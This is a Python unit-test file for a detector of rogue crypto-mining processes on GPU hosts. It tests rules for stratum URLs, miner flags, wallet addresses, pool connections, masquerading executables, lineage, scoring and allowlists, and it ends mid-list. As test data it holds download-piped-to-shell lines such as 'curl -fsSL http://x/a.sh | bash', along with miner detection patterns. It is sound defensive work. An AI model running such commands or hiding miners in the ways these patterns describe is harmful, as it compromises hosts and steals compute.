# Copyright (c) gpufleet.reclaim contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Rogue detector: every built-in rule (fires / does not fire), scoring and levels, custom rules,
the allowlist, and the helpers that parse /proc.  No live processes here (see test_rogue_live.py)."""

from __future__ import annotations

import datetime
import ipaddress

import pytest

from ansible_collections.gpufleet.reclaim.plugins.module_utils.core import rogue
from ansible_collections.gpufleet.reclaim.plugins.module_utils.core import rogue_rules as R
from ansible_collections.gpufleet.reclaim.tests.unit.plugins.module_utils.guard_test_helpers import (
    BOMB_LINE, TOO_DEEP, TOO_MANY_ALIASED, billion_laughs)

XMR = '45ASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVKf'
ETH = '0x70f58904dba41ecccc3fc1626e53a13043b026c4'
BTC = 'bc1qpgehtgezq22kyjeqwqr6g7gyepfy0yq68seydv'
RVN = 'RshN6toSWSp6oBB92AezWtiAgufXjPAcc9'
ERG = '921toi7ap9UxDuxE2HEKZGqeMHbTv94pPzWjeuzaTuyZ9bAaZ2x'
KAS = 'kaspa:qwd0aday84ny74hek37w25wnekwyhjew9u8twn5hv5fm8araj9xg7tzcgcvtpu'
LTC = 'LDPM6oQ2NcWVn2RNagKZ58sFy76HJ3zrCJ'
NOW = datetime.datetime(2026, 1, 15, tzinfo=datetime.timezone.utc)


def facts(**kwargs):
    kwargs.setdefault('pid', 4242)
    kwargs.setdefault('user', 'bob')
    return rogue.ProcessFacts.from_dict(kwargs)


def fired(config=None, **kwargs):
    """{rule id: evidence} of the rules that fire on facts(**kwargs)."""
    finding = rogue.Detector(config).evaluate(facts(**kwargs))
    return {} if finding is None else dict((r['id'], r['evidence']) for r in finding['rules'])


def evaluate(config=None, **kwargs):
    return rogue.Detector(config).evaluate(facts(**kwargs))


def flat(value, minutes=40, jitter=0.0):
    return [[60.0 * i, value + (jitter if i % 2 else -jitter)] for i in range(minutes + 1)]


def config(text=None, **rules):
    return rogue.load_config(text=text, rules=rules or None, now=NOW)


# ---------------------------------------------------------------------------- H-stratum
@pytest.mark.parametrize('url', ['stratum+tcp://pool.example.net:3333', 'stratum+ssl://1.2.3.4:443', 'stratum2+tcp://h:1',
                                 'stratum1+tcp://w@h:1', 'STRATUM+TCP://H:1', 'stratum+tls://h:1', 'ethproxy+tcp://h:1',
                                 'nicehash+tcp://h:1', 'stratum://h:1'])
def test_stratum_in_argv(url):
    evidence = fired(cmdline=['python', 'train.py', '--pool=%s' % url])['H-stratum']
    assert evidence[0]['source'] == 'argv[2]'
    assert evidence[0]['value'].lower() == url.lower()


def test_stratum_in_environment():
    evidence = fired(cmdline=['python', 'a.py'], env={'POOL': 'stratum+tcp://x.example:3333'})['H-stratum']
    assert evidence == [{'source': 'env:POOL', 'value': 'stratum+tcp://x.example:3333', 'note': None}]


@pytest.mark.parametrize('text', ['stratum_analysis.py', 'https://stratum.example.org/', 'xstratum+tcp://h:1', 'stratum+tcp:/h'])
def test_stratum_negative(text):
    assert 'H-stratum' not in fired(cmdline=['python', text])


# ---------------------------------------------------------------------------- H-miner-flags
@pytest.mark.parametrize('argv', [
    ['x', '--donate-level=1'],
    ['x', '--donate-level', '0'],
    ['x', '--nicehash'],
    ['x', '-epool', 'eth.example:4444'],
    ['x', '-ewal', ETH],
    ['x', '--rig-id', 'r1'],
    ['x', '--lhr-tune', '71'],
    ['x', '--cpu-priority=5'],
])
def test_miner_only_flags(argv):
    evidence = fired(cmdline=argv)['H-miner-flags']
    assert evidence[0]['source'] == 'argv[1]'


@pytest.mark.parametrize('argv,why', [
    (['x', '-o', 'pool.example:3333', '-a', 'rx/0'], 'mining algorithm'),
    (['x', '--url=pool.example:3333', '--algo=kawpow'], 'mining algorithm'),
    (['x', '--pool', 'stratum+tcp://h:1', '--algorithm', 'cn/r'], 'mining algorithm'),
    (['x', '-o', '1.2.3.4:3333', '--coin', 'monero'], '--coin'),
    (['x', '-pool', 'eth.example:4444', '-wal', 'abc'], 'wallet option'),
])
def test_miner_flag_sets(argv, why):
    evidence = fired(cmdline=argv)['H-miner-flags']
    assert any(why in (e['note'] or '') for e in evidence)
    assert evidence[0]['value'].startswith(argv[1])


@pytest.mark.parametrize('argv', [
    ['gcc', '-o', 'out.o', '-a', '3'],                        # -a is not an algorithm
    ['blender', '-b', 'x.blend', '-a', '--', '-o', '//r/f'],
    ['x', '--pool', 'main', '--algo', 'kawpow'],              # no host in the pool value
    ['python', 'rl.py', '-a', 'sac', '-o', 'runs/exp.1'],
    ['x', '--coin', 'monero'],                                # no pool option
])
def test_miner_flags_negative(argv):
    assert 'H-miner-flags' not in fired(cmdline=argv)


# ---------------------------------------------------------------------------- H-wallet
@pytest.mark.parametrize('value,coin', [
    (XMR, 'monero'), (XMR + '.rig1', 'monero'), (ETH, 'ethereum'), (ETH + '/worker', 'ethereum'), (BTC, 'bitcoin'),
    ('1BoatSLRHtKNngkdXEeobR76b53LETtpyT', 'bitcoin'), (RVN + '.w', 'ravencoin'), (ERG, 'ergo'), (KAS, 'kaspa'),
    (KAS + '.w1', 'kaspa'), (LTC, 'litecoin'), (ETH + '.w:x', 'ethereum'),
])
def test_wallet_as_user_option(value, coin):
    evidence = fired(cmdline=['x', '-u', value])['H-wallet']
    assert evidence[0]['note'] == '%s address' % coin
    assert value in evidence[0]['value']


@pytest.mark.parametrize('flag', ['--user', '--wallet', '-wal', '-O', '--address', '--username', '-w'])
def test_wallet_flags(flag):
    assert 'H-wallet' in fired(cmdline=['x', flag, XMR])
    assert 'H-wallet' in fired(cmdline=['x', '%s=%s' % (flag, XMR)])


def test_wallet_as_pool_url_user():
    evidence = fired(cmdline=['ethminer', '-P', 'stratum1+tcp://%s.rig@eth.example:6688' % ETH])['H-wallet']
    assert 'user of a pool URL' in evidence[0]['note']


@pytest.mark.parametrize('argv', [
    ['python', 'eval.py', '--commit', '3f786850e387550fdab836ed7e6dc881de23001b'],
    ['python', 'train.py', '--run-id', ETH],                  # not a wallet option
    ['python', 'train.py', '--user', 'alice'],
    ['python', '-u', 'train.py'],
    ['x', '-u', XMR + 'extra'],                               # too long for the pattern
    ['x', '-u', 'kaspa:short'],
])
def test_wallet_negative(argv):
    assert 'H-wallet' not in fired(cmdline=argv)


# ---------------------------------------------------------------------------- H-pool-host
def test_pool_host_builtin_and_subdomain():
    evidence = fired(cmdline=['x', '--url', 'gulf.moneroocean.stream:10128'])['H-pool-host']
    assert evidence[0]['value'] == 'gulf.moneroocean.stream'
    assert fired(cmdline=['x', 'https://eu1.ethermine.org/x'])['H-pool-host'][0]['note'] == 'pool domain ethermine.org'


def test_pool_host_configured():
    cfg = config(pools=['Pool.Evil.Example'])
    assert 'H-pool-host' in fired(cfg, cmdline=['x', 'a.pool.evil.example:1'])
    assert 'H-pool-host' in fired(cfg, cmdline=['x'], env={'P': 'pool.evil.example'})
    assert 'H-pool-host' not in fired(cmdline=['x', 'a.pool.evil.example:1'])


@pytest.mark.parametrize('text', ['notsupportxmr.com', 'supportxmr.com.evil.example', 'supportxmr', 'nanopool-org'])
def test_pool_host_negative(text):
    assert 'H-pool-host' not in fired(cmdline=['x', text])


# ---------------------------------------------------------------------------- H-pool-conn
def test_pool_connection_in_list():
    cfg = config(pools=['203.0.113.0/24', '2001:db8::/32'])
    evidence = fired(cfg, connections=['203.0.113.9:443'])['H-pool-conn']
    assert evidence == [{'source': 'connection', 'value': '203.0.113.9:443', 'note': 'pool list entry 203.0.113.0/24'}]
    assert fired(cfg, connections=['[2001:db8::5]:443'])['H-pool-conn'][0]['value'] == '[2001:db8::5]:443'
    # IPv4-mapped IPv6 addresses (what tcp6 sockets show) are compared as IPv4.
    assert 'H-pool-conn' in fired(cfg, connections=['[::ffff:203.0.113.9]:443'])


def test_pool_connection_negative():
    cfg = config(pools=['203.0.113.0/24'])
    assert 'H-pool-conn' not in fired(cfg, connections=['198.51.100.1:443'])
    assert 'H-pool-conn' not in fired(cfg, connections=[{'address': '203.0.113.9', 'port': 443, 'state': 'LISTEN'}])
    assert 'H-pool-conn' not in fired(connections=['203.0.113.9:443'])       # no pool list configured


# ---------------------------------------------------------------------------- H-pool-port
def test_pool_port_public():
    evidence = fired(connections=['45.9.148.21:3333'])['H-pool-port']
    assert evidence[0]['value'] == '45.9.148.21:3333'
    assert 'H-pool-port' in fired(connections=[{'address': '45.9.148.21', 'port': 14444, 'state': 'SYN_SENT'}])


@pytest.mark.parametrize('conn', ['10.0.0.13:45560', '127.0.0.1:3333', '192.168.1.5:4444', '45.9.148.21:443',
                                  '100.64.1.1:3333', '[fe80::1]:3333', '[::1]:3333'])
def test_pool_port_negative(conn):
    assert 'H-pool-port' not in fired(connections=[conn])


def test_pool_ports_extended():
    cfg = config(pool_ports=[2020])
    assert 'H-pool-port' in fired(cfg, connections=['45.9.148.21:2020'])


# ---------------------------------------------------------------------------- S-miner-name
@pytest.mark.parametrize('kwargs,source', [
    ({'cmdline': ['/opt/x/xmrig', '-c', 'c.json']}, 'argv[0]'),
    ({'cmdline': ['./t-rex'], 'name': 't-rex'}, 'argv[0]'),
    ({'cmdline': ['run'], 'name': 'lolMiner'}, 'name'),
    ({'cmdline': ['run'], 'exe': '/opt/nbminer/nbminer'}, 'exe'),
    ({'cmdline': ['./xmrig-6.21.0']}, 'argv[0]'),
    ({'cmdline': ['PhoenixMiner.exe']}, 'argv[0]'),
])
def test_miner_name(kwargs, source):
    evidence = fired(**kwargs)['S-miner-name']
    assert evidence[0]['source'] == source


def test_miner_name_configured_and_negative():
    assert 'S-miner-name' not in fired(cmdline=['python', 'train.py'], name='python', exe='/usr/bin/python3.11')
    assert 'S-miner-name' not in fired(cmdline=['mybench'])
    assert 'S-miner-name' in fired(config(miner_names=['MyBench']), cmdline=['mybench'])


# ---------------------------------------------------------------------------- S-algo
@pytest.mark.parametrize('argv', [['x', '-a', 'kawpow'], ['x', '--algo=RX/0'], ['x', '--algorithm', 'cn-heavy/xhv'],
                                  ['x', '--algo', 'equihash144_5']])
def test_algo(argv):
    assert 'S-algo' in fired(cmdline=argv)


@pytest.mark.parametrize('argv', [['hashcat', '-a', '3'], ['python', 'rl.py', '--algo', 'ppo'], ['x', '-a']])
def test_algo_negative(argv):
    assert 'S-algo' not in fired(cmdline=argv)


# ---------------------------------------------------------------------------- S-masquerade
@pytest.mark.parametrize('argv0,exe', [('python', '/tmp/x'), ('python3', '/opt/x/gpusim-workload'),
                                       ('/usr/bin/python3', '/usr/bin/xmrig'), ('java', '/dev/shm/j'), ('bash', '/usr/bin/perl'),
                                       ('jupyter', '/bin/t-rex')])
def test_masquerade_interpreter(argv0, exe):
    evidence = fired(cmdline=[argv0, 'train.py'], exe=exe)['S-masquerade']
    assert evidence[0]['source'] == 'argv[0]'
    assert exe in evidence[0]['note']


@pytest.mark.parametrize('argv0,exe', [('python', '/usr/bin/python3.11'), ('python3', '/opt/conda/bin/python3.11'),
                                       ('/usr/bin/python', '/home/a/.pyenv/versions/3.12.1/bin/python3.12'), ('sh', '/usr/bin/dash'),
                                       ('java', '/usr/lib/jvm/java-17/bin/java'), ('python', None), ('R', '/usr/lib/R/bin/exec/R')])
def test_masquerade_negative(argv0, exe):
    assert 'S-masquerade' not in fired(cmdline=[argv0, 'x'], exe=exe)


def test_masquerade_fake_kernel_thread_and_daemon():
    assert fired(cmdline=['[kworker/0:1]'], name='kworker/0:1', exe='/tmp/k')['S-masquerade'][0]['note'].startswith('looks like a kernel')
    assert 'a system daemon name' in fired(cmdline=['/usr/sbin/sshd', '-D'], exe='/var/tmp/ld')['S-masquerade'][0]['note']
    assert 'S-masquerade' not in fired(cmdline=['/usr/sbin/sshd', '-D'], exe='/usr/sbin/sshd')
    assert 'S-masquerade' not in fired(cmdline=['[kworker/0:1]'], name='kworker/0:1', exe=None)


# ---------------------------------------------------------------------------- S-exe-location
@pytest.mark.parametrize('exe,note', [
    ('/usr/local/bin/x (deleted)', 'deleted'),
    ('/memfd:foo (deleted)', 'memfd'),
    ('/tmp/x', 'temporary'),
    ('/var/tmp/x', 'temporary'),
    ('/dev/shm/x', 'temporary'),
    ('/home/a/.x/miner', 'hidden'),
    ('/home/a/.local/share/.t/xmrig', 'hidden'),
    ('/home/a/.cache/xmrig', 'hidden'),
    ('/var/www/.sysupdate', 'hidden'),
])
def test_exe_location(exe, note):
    evidence = fired(cmdline=['x'], exe=exe)['S-exe-location']
    assert any(note in e['note'] for e in evidence)
    assert all(e['value'] == exe for e in evidence)


@pytest.mark.parametrize('exe', ['/usr/bin/python3.11', '/home/a/.conda/envs/t/bin/python3.11', '/home/a/.local/bin/tool',
                                 '/proj/.venv/bin/python3', '/home/a/.pyenv/versions/3.11.7/bin/python3.11',
                                 '/home/a/.vscode-server/bin/x/node', '/opt/a/b'])
def test_exe_location_negative(exe):
    assert 'S-exe-location' not in fired(cmdline=['x'], exe=exe)


# ---------------------------------------------------------------------------- S-miner-env
@pytest.mark.parametrize('env', [{'GPU_MAX_ALLOC_PERCENT': '100'}, {'GPU_SINGLE_ALLOC_PERCENT': '100'},
                                 {'CUDA_DISABLE_CONTROL': 'true'}, {'HISTFILE': '/dev/null'}, {'WALLET': 'x'}])
def test_miner_env(env):
    evidence = fired(cmdline=['x'], env=env)['S-miner-env']
    key = list(env)[0]
    assert evidence[0]['source'] == 'env:%s' % key


def test_miner_env_negative_and_configured():
    assert 'S-miner-env' not in fired(cmdline=['x'], env={'CUDA_DISABLE_CONTROL': 'false', 'HOME': '/root'})
    assert 'S-miner-env' not in fired(cmdline=['x'])                               # environment not readable
    assert 'S-miner-env' in fired(config(miner_env=['MY_POOL']), cmdline=['x'], env={'MY_POOL': '1'})


# ---------------------------------------------------------------------------- S-no-allocation
def test_no_allocation():
    evidence = fired(cmdline=['x'], allocation_expected=True, allocation_reason='slurmd runs on this host')['S-no-allocation']
    assert 'slurmd runs on this host' in evidence[0]['note']
    assert 'S-no-allocation' not in fired(cmdline=['x'], allocation_expected=True, slurm_job='12')
    assert 'S-no-allocation' not in fired(cmdline=['x'], allocation_expected=True, container={'id': 'c'})
    assert 'S-no-allocation' not in fired(cmdline=['x'], allocation_expected=False)
    assert 'S-no-allocation' not in fired(cmdline=['x'])


# ---------------------------------------------------------------------------- behavioural rules
def test_flat_util():
    evidence = fired(util_series=flat(99.5, jitter=0.3))['B-flat-util']
    assert evidence[0]['source'] == 'utilization'
    assert 'mean 99.5%' in evidence[0]['value']


@pytest.mark.parametrize('series', [flat(99.5, minutes=10), flat(80), flat(97, jitter=5), [], [[0, 100]] * 3])
def test_flat_util_negative(series):
    assert 'B-flat-util' not in fired(cmdline=['x'], util_series=series)


def test_flat_util_window_from_config():
    cfg = config(window='10m', min_samples=5)
    assert 'B-flat-util' in fired(cfg, util_series=flat(99.5, minutes=10))


def test_flat_mem():
    evidence = fired(mem_series=flat(2400), gpu_memory_total_mib=81559)['B-flat-mem']
    assert '2400 MiB' in evidence[0]['value']
    assert 'B-flat-mem' not in fired(cmdline=['x'], mem_series=flat(70000), gpu_memory_total_mib=81559)
    assert 'B-flat-mem' not in fired(cmdline=['x'], mem_series=flat(2400))                     # total unknown
    assert 'B-flat-mem' not in fired(cmdline=['x'], mem_series=flat(2400, jitter=300), gpu_memory_total_mib=81559)


def test_no_ml_libs():
    evidence = fired(maps=['/lib/libc.so.6', '/usr/lib/libcuda.so.1'])['B-no-ml-libs']
    assert 'libcuda.so.1 is mapped' in evidence[0]['note']
    assert 'B-no-ml-libs' in fired(maps=[])
    assert 'B-no-ml-libs' not in fired(cmdline=['x'], maps=['/x/libtorch_cuda.so'])
    assert 'B-no-ml-libs' not in fired(cmdline=['x'])                                          # maps unreadable


@pytest.mark.parametrize('parents,note', [
    ([{'name': 'php-fpm', 'pid': 10}], 'web server'),
    ([{'name': 'sh'}, {'name': 'nginx'}], 'web server'),
    ([{'name': 'x', 'exe': '/usr/sbin/apache2'}], 'web server'),
    ([{'name': 'cron'}], 'cron'),
    ([{'name': 'bash', 'cmdline': ['bash', '-c', 'curl -fsSL http://x/a.sh | bash']}], 'download piped'),
    ([{'name': 'sh', 'cmdline': ['sh', '-c', 'wget -qO- http://x | sudo sh']}], 'download piped'),
])
def test_lineage(parents, note):
    evidence = fired(cmdline=['x'], parents=parents)['B-lineage']
    assert any(note in e['note'] for e in evidence)


def test_lineage_negative():
    assert 'B-lineage' not in fired(cmdline=['x'], parents=[{'name': 'gunicorn'}, {'name': 'systemd'}, {'name': 'sshd'}])
    assert 'B-lineage' not in fired(cmdline=['x'], parents=[{'name': 'bash', 'cmdline': ['bash', '-c', 'curl -o f http://x; ls']}])


def test_ml_libs_suppressor_lowers_only_behaviour():
    finding = evaluate(cmdline=['x', '-o', 'stratum+tcp://h:1'], maps=['/x/libtorch_cuda.so', '/x/libnccl.so.2'],
                       util_series=flat(99.5))
    assert finding['suppressors'][0]['id'] == 'N-ml-libs'
    assert finding['points']['behavioural'] == 0
    assert finding['points']['hard'] == 60
    assert finding['score'] == 60


# ---------------------------------------------------------------------------- scoring and levels
def test_levels_and_gates():
    assert rogue.classify(60, 25, 0) == (85, 'critical')
    assert rogue.classify(0, 45, 40) == (85, 'medium')      # soft below the gate: no high without hard
    assert rogue.classify(0, 50, 40) == (90, 'high')        # enough soft points: high, never critical
    assert rogue.classify(40, 0, 20) == (60, 'high')
    assert rogue.classify(0, 0, 40) == (40, 'medium')
    assert rogue.classify(0, 0, 30) == (30, 'info')
    assert rogue.classify(300, 100, 40) == (100, 'critical')


def test_behaviour_alone_never_above_medium():
    finding = evaluate(cmdline=['x'], maps=[], util_series=flat(100), mem_series=flat(1000), gpu_memory_total_mib=80000,
                       parents=[{'name': 'cron'}, {'name': 'nginx'}])
    assert finding['points']['behavioural'] == R.BEHAVIOURAL_CAP
    assert finding['level'] == 'medium'


def test_masquerade_plus_behaviour_stays_medium():
    finding = evaluate(cmdline=['python', 'train.py'], exe='/sim/gpusim-workload', maps=[], util_series=flat(100),
                       mem_series=flat(1000), gpu_memory_total_mib=80000, parents=[{'name': 'cron'}])
    assert [r['id'] for r in finding['rules']][0] == 'S-masquerade'
    assert finding['level'] == 'medium'
    # ... also on a host that expects allocations
    finding = evaluate(cmdline=['python', 'train.py'], exe='/sim/gpusim-workload', maps=[], util_series=flat(100),
                       allocation_expected=True)
    assert finding['level'] == 'medium'


def test_critical_needs_hard():
    finding = evaluate(cmdline=['/usr/sbin/sshd'], exe='/dev/shm/.x/ld (deleted)', name='sshd', env={'GPU_MAX_HEAP_SIZE': '100'},
                       maps=[], util_series=flat(100), parents=[{'name': 'cron'}], allocation_expected=True)
    assert finding['score'] >= 80
    assert finding['level'] == 'high'


def test_no_rule_no_finding():
    assert evaluate(cmdline=['python', 'train.py'], exe='/usr/bin/python3.11', maps=['/x/libtorch.so']) is None


def test_finding_shape():
    finding = evaluate(cmdline=['xmrig', '-o', 'stratum+tcp://h.example:3333'], gpu_indexes=[1], used_mib=2048, uid=1001,
                       starttime=99, container={'id': 'abc', 'runtime': 'docker'}, slurm_job=None)
    assert set(finding) == {'pid', 'starttime', 'user', 'uid', 'name', 'exe', 'cmdline', 'cmdline_truncated', 'gpu_indexes',
                            'used_mib', 'container', 'slurm_job', 'listed', 'score', 'level', 'points', 'rules', 'suppressors',
                            'allowlisted', 'notes'}
    assert finding['gpu_indexes'] == [1] and finding['used_mib'] == 2048 and finding['starttime'] == 99
    assert finding['container'] == {'id': 'abc', 'runtime': 'docker', 'pod_uid': None, 'image': None, 'image_digest': None}
    for rule in finding['rules']:
        assert set(rule) == {'id', 'kind', 'weight', 'description', 'evidence'}
        for item in rule['evidence']:
            assert set(item) == {'source', 'value', 'note'}


def test_detect_sorts_and_filters():
    detector = rogue.Detector()
    items = [facts(pid=1, cmdline=['x'], maps=[]), facts(pid=2, cmdline=['x', '-o', 'stratum+tcp://h:1', '-u', XMR]),
             facts(pid=3, cmdline=['python'], exe='/usr/bin/python3', maps=['/x/libtorch.so'])]
    assert [f['pid'] for f in detector.detect(items)] == [2, 1]
    assert [f['pid'] for f in detector.detect(items, 'critical')] == [2]
    summary = rogue.summarize(detector.detect(items), evaluated=3)
    assert summary == {'info': 1, 'medium': 0, 'high': 0, 'critical': 1, 'allowlisted': 0, 'total': 2, 'evaluated': 3}


def test_weights_and_disable():
    cfg = config(weights={'H-stratum': 10}, disable=['H-wallet'])
    finding = evaluate(cfg, cmdline=['x', '-o', 'stratum+tcp://h:1', '-u', XMR])
    assert [(r['id'], r['weight']) for r in finding['rules']] == [('H-stratum', 10)]
    assert finding['level'] == 'info'


def test_a_failing_rule_becomes_a_note(monkeypatch):
    def broken(_ctx):
        raise RuntimeError('boom')
    monkeypatch.setitem(rogue.BUILTIN_CHECKS, 'H-stratum', broken)
    finding = evaluate(cmdline=['x', '-u', XMR])
    assert any('H-stratum' in n and 'boom' in n for n in finding['notes'])


def test_long_command_line_is_bounded_and_noted():
    padding = ['a' * 100000] * 40                                        # 4 MB of arguments
    finding = evaluate(cmdline=['x'] + padding + ['-o', 'stratum+tcp://h:1'])
    evidence = dict((r['id'], r['evidence']) for r in finding['rules'])['H-stratum']
    assert evidence[0]['source'] == 'argv[42]'                           # the tail is kept, with its real index
    assert finding['cmdline_truncated'] is True
    assert any('longer than' in n for n in finding['notes'])
    finding = evaluate(cmdline=['x', '-o', 'stratum+tcp://h:1'] + ['a'] * 100000)
    assert finding['cmdline_truncated'] is True
    assert len(finding['cmdline']) == rogue.MAX_OUTPUT_ARGS
    assert rogue.ProcessFacts.from_dict({'cmdline': ['a' * 100] * 20000}).truncated is False


# ---------------------------------------------------------------------------- custom rules
CUSTOM = """
version: 1
rules:
  - id: site-bad-binary
    kind: hard
    weight: 70
    description: our known-bad build
    match:
      exe: '^/opt/bad/'
      user: '^(eve|mallory)$'
  - id: site-ports
    kind: soft
    weight: 20
    description: our honeypot
    match:
      remote_addr: [192.0.2.0/24]
      remote_port: [9999]
  - id: site-env
    kind: behavioural
    weight: 5
    description: env marker
    match: {env: '^LEAK=', maps: 'libfoo', parent: 'screen', image: 'evil', cmdline: '--x', argv0: '^x$', name: 'x'}
"""


def test_custom_rules():
    cfg = config(CUSTOM)
    evidence = fired(cfg, cmdline=['run'], exe='/opt/bad/run', user='eve')['site-bad-binary']
    assert [e['source'] for e in evidence] == ['exe', 'user']
    assert 'site-bad-binary' not in fired(cfg, cmdline=['run'], exe='/opt/bad/run', user='alice')
    assert fired(cfg, cmdline=['x'], connections=['192.0.2.9:9999'])['site-ports'][0]['value'] == '192.0.2.9:9999'
    assert 'site-ports' not in fired(cfg, cmdline=['x'], connections=['192.0.2.9:80'])
    hit = fired(cfg, cmdline=['x', '--x'], name='x', env={'LEAK': '1'}, maps=['/l/libfoo.so'], parents=[{'name': 'screen'}],
                container={'id': 'c', 'image': 'evil:1'})
    assert len(hit['site-env']) == 7
    finding = evaluate(cfg, cmdline=['run'], exe='/opt/bad/run', user='eve')
    assert finding['rules'][0]['kind'] == 'hard' and finding['level'] == 'high'


# ---------------------------------------------------------------------------- allowlist
def test_allowlist_user_cmdline():
    cfg = config(allowlist=[{'user': 'secops', 'cmdline': '^hashcat -b', 'comment': 'bench'}])
    finding = evaluate(cfg, user='secops', cmdline=['hashcat', '-b'], maps=[], util_series=flat(100))
    assert finding['level'] == 'info'
    assert finding['allowlisted'] == {'entry': 0, 'source': 'rules (inline)', 'match': 'user+cmdline', 'expires': None,
                                      'comment': 'bench'}
    assert evaluate(cfg, user='eve', cmdline=['hashcat', '-b'], maps=[])['allowlisted'] is None


def test_allowlist_exe_sha256_checks_the_hash():
    digest = 'e233ef2109f5a23f17e799dfb79c7f8c27f769eab1c90255287ff3beb823a4ca'
    cfg = config(allowlist=[{'exe': '/tmp/gpu-burn', 'sha256': digest.upper()}])
    assert evaluate(cfg, cmdline=['x'], exe='/tmp/gpu-burn', exe_sha256=digest)['allowlisted']['match'] == 'exe+sha256'
    assert evaluate(cfg, cmdline=['x'], exe='/tmp/gpu-burn', exe_sha256='0' * 64)['allowlisted'] is None
    assert evaluate(cfg, cmdline=['x'], exe='/tmp/gpu-burn (deleted)', exe_sha256=digest)['allowlisted'] is None
    # a live process hashes on demand, once
    calls = []
    item = facts(cmdline=['x'], exe='/tmp/gpu-burn')
    item.sha256_fn = lambda: calls.append(1) or digest
    assert rogue.Detector(cfg).evaluate(item)['allowlisted'] is not None
    assert item.sha256() == digest and calls == [1]


def test_allowlist_image():
    digest = 'sha256:' + 'a' * 64
    cfg = config(allowlist=[{'image': 'reg.example/bench@' + digest}, {'image': 'reg.example/tool:1.0'}])
    assert evaluate(cfg, cmdline=['x'], maps=[], container={'id': 'c', 'image': 'other', 'image_digest': digest})['allowlisted']
    assert evaluate(cfg, cmdline=['x'], maps=[], container={'id': 'c', 'image': 'reg.example/tool:1.0'})['allowlisted']
    assert evaluate(cfg, cmdline=['x'], maps=[], container={'id': 'c', 'image': 'reg.example/tool:1.1'})['allowlisted'] is None
    assert evaluate(cfg, cmdline=['x'], maps=[])['allowlisted'] is None


def test_allowlist_keeps_evidence_and_score():
    cfg = config(allowlist=[{'user': 'r', 'cmdline': 'xmrig'}])
    finding = evaluate(cfg, user='r', cmdline=['xmrig', '-o', 'stratum+tcp://h:1', '-u', XMR])
    assert finding['score'] == 100 and finding['level'] == 'info' and finding['rules']


def test_allowlist_expiry():
    cfg = config(allowlist=[{'user': 'a', 'cmdline': 'x', 'expires': '2025-12-31'},
                            {'user': 'b', 'cmdline': 'x', 'expires': '2026-01-15'},
                            {'user': 'c', 'cmdline': 'x', 'expires': '2026-01-14T23:00:00Z'}])
    assert [e.user for e in cfg.allowlist] == ['b']
    assert len(cfg.warnings) == 2 and 'expired on 2026-01-01' in cfg.warnings[0]


@pytest.mark.parametrize('entry,why', [
    ({'user': 'root'}, 'never by a process name or a user alone'),
    ({'user': 'alice'}, 'never by a process name or a user alone'),
    ({'comment': 'python'}, 'never by a process name or a user alone'),
    ({'name': 'python'}, "unknown key 'name'"),
    ({'exe': '/usr/bin/x'}, 'needs both exe'),
    ({'sha256': 'a' * 64}, 'needs both exe'),
    ({'exe': 'x', 'sha256': 'a' * 64}, 'absolute path'),
    ({'exe': '/x', 'sha256': 'abc'}, '64 hexadecimal'),
    ({'cmdline': 'x'}, 'needs user as well'),
    ({'user': 'a', 'cmdline': '(a+)+'}, 'nested quantifiers'),
    ({'user': 'a', 'cmdline': 'x', 'expires': 'soon'}, 'expected a date'),
    ({'user': 'a', 'cmdline': 'x', 'expires': 5}, 'expected a date'),
    ({'image': 'i', 'cmdline': 'x', 'user': 'a'}, 'one of exe+sha256'),
])
def test_allowlist_validation(entry, why):
    with pytest.raises(rogue.RulesError) as exc:
        config(allowlist=[entry])
    assert why in str(exc.value)
    assert exc.value.field.startswith('allowlist[0]')


# ---------------------------------------------------------------------------- rules file validation
def test_rules_file_errors_name_file_line_field(tmp_path):
    path = tmp_path / 'rogue.yml'
    path.write_text('version: 1\npools:\n  - 203.0.113.0/24\nrules:\n  - id: r1\n    kind: hard\n    weight: 150\n'
                    '    description: d\n    match: {cmdline: x}\n')
    with pytest.raises(rogue.RulesError) as exc:
        rogue.load_config(rules_file=str(path))
    assert (exc.value.source, exc.value.line, exc.value.field) == (str(path), 7, 'rules[0].weight')
    assert str(exc.value) == '%s:7: rules[0].weight: 150 is out of range 0-100' % path


@pytest.mark.parametrize('text,line,field,why', [
    ('version: 1\npoolz: []\n', 2, 'poolz', "unknown key 'poolz'"),
    ('rules:\n  - id: r\n    kind: soft\n    weight: 5\n    description: d\n    match:\n      cmdline: "(unclosed"\n', 7,
     'rules[0].match.cmdline', 'bad regular expression'),
    ('rules:\n  - id: r\n    kind: soft\n    weight: 5\n    description: d\n    match:\n      cmdlin: x\n', 7,
     'rules[0].match.cmdlin', "unknown key 'cmdlin'"),
    ('rules:\n  - id: r\n    kind: sof\n    weight: 5\n    description: d\n    match: {cmdline: x}\n', 3, 'rules[0].kind', 'expected one of'),
    ('rules:\n  - id: r\n    kind: soft\n    weight: -1\n    description: d\n    match: {cmdline: x}\n', 4, 'rules[0].weight', 'out of range'),
    ('rules:\n  - id: r\n    kind: soft\n    weight: true\n    description: d\n    match: {cmdline: x}\n', 4, 'rules[0].weight',
     'whole number'),
    ('rules:\n  - id: H-stratum\n    kind: soft\n    weight: 5\n    description: d\n    match: {cmdline: x}\n', 2, 'rules[0].id',
     'already taken'),
    ('rules:\n  - id: r\n    kind: soft\n    weight: 5\n    description: d\n', 2, 'rules[0]', 'a rule needs match'),
    ('rules:\n  - id: r\n    kind: soft\n    weight: 5\n    description: d\n    match: {}\n', 6, 'rules[0].match', 'at least one'),
    ('weights:\n  H-stratum: 101\n', 2, 'weights.H-stratum', 'out of range'),
    ('weights:\n  H-nope: 1\n', 2, 'weights.H-nope', 'unknown key'),
    ('disable: [H-nope]\n', 1, 'disable[0]', 'unknown rule id'),
    ('pools: ["not a host!"]\n', 1, 'pools[0]', 'neither an IP'),
    ('pool_ports: [0]\n', 1, 'pool_ports[0]', 'out of range'),
    ('version: 2\n', 1, 'version', 'unsupported version'),
    ('pools: {a: 1}\n', 1, 'pools', 'expected a list'),
    ('- 1\n', 1, None, 'expected a mapping'),
    ('allowlist:\n  - user: a\n    cmdline: "["\n', 3, 'allowlist[0].cmdline', 'bad regular expression'),
    ('window: 5s\n', 1, 'window', 'from 1m to 7d'),
    ('a: [\n', 2, None, 'not valid YAML'),
    ('pools: [1.2.3.4]\npools: []\n', 2, 'pools', 'duplicate key'),
    ('<<: {pools: []}\n', 1, '<<', 'unknown key'),
